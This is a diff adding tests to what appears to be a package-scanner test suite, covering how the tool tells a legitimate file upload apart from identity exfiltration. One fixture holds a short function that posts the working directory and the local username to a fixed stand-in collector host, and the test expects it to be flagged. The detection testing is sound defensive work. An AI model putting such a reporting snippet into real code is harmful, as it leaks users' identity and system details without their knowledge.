@@ -1213,3 +1213,47 @@ def test_literal_code_spelt_in_escapes_compiled_and_run_at_install_stays_hidden(
     assert any(
         f.rule == "capability.dynamic-code" and f.severity == "high" for f in result.findings
     )
+
+
+# -- a file opened at a path built from the working directory -----------------------------------
+
+
+def test_uploading_a_file_found_under_the_working_directory_is_not_sending_identity() -> None:
+    paths = """
+        import os
+
+        def inside_cwd(path):
+            base = os.getcwd()
+            full = os.path.realpath(os.path.join(base, path))
+            if not full.startswith(base):
+                raise ValueError("outside")
+            return full
+    """
+    client = """
+        import requests
+        from .paths import inside_cwd
+
+        def upload(path, token):
+            path = inside_cwd(path)
+            with open(path, "rb") as fp:
+                return requests.post(
+                    "https://api.docs-parser.io/v1/parse",
+                    headers={"authorization": "Bearer " + token},
+                    files={"file": fp},
+                )
+    """
+    result = scan({"demo/__init__.py": "", "demo/paths.py": paths, "demo/client.py": client})
+    assert "intent.exfiltration" not in rules(result, "high"), result.findings
+    assert result.verdict not in FLAGGED
+
+
+def test_sending_the_working_directory_and_user_to_a_fixed_host_stays_flagged() -> None:
+    src = """
+        import getpass, os, requests
+
+        def report():
+            info = {"cwd": os.getcwd(), "user": getpass.getuser()}
+            requests.post("https://collector.example-tracker.net/r", json=info)
+    """
+    result = scan({"demo/__init__.py": "", "demo/report.py": src})
+    assert "intent.exfiltration" in rules(result, "high"), result.findings
